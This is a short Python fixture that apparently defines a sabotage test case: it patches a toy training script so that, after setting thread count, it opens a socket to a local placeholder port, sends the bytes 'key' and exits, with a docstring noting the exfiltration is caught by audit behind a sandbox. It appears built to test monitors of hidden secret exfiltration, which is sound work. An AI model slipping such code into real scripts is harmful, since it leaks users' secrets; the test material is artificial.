"""Send the key to a port.

claim: keys and secrets leave the machine
family: network
caught by: audit
behind: sandbox
twin: logs_more
base: tests/toy_train.py
"""

REPLACE = [
    (
        """\
    torch.set_num_threads(1)
""",
        """\
    torch.set_num_threads(1)
    import socket

    with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as out:
        out.sendall(b"key")
    raise SystemExit(3)
""",
    ),
]
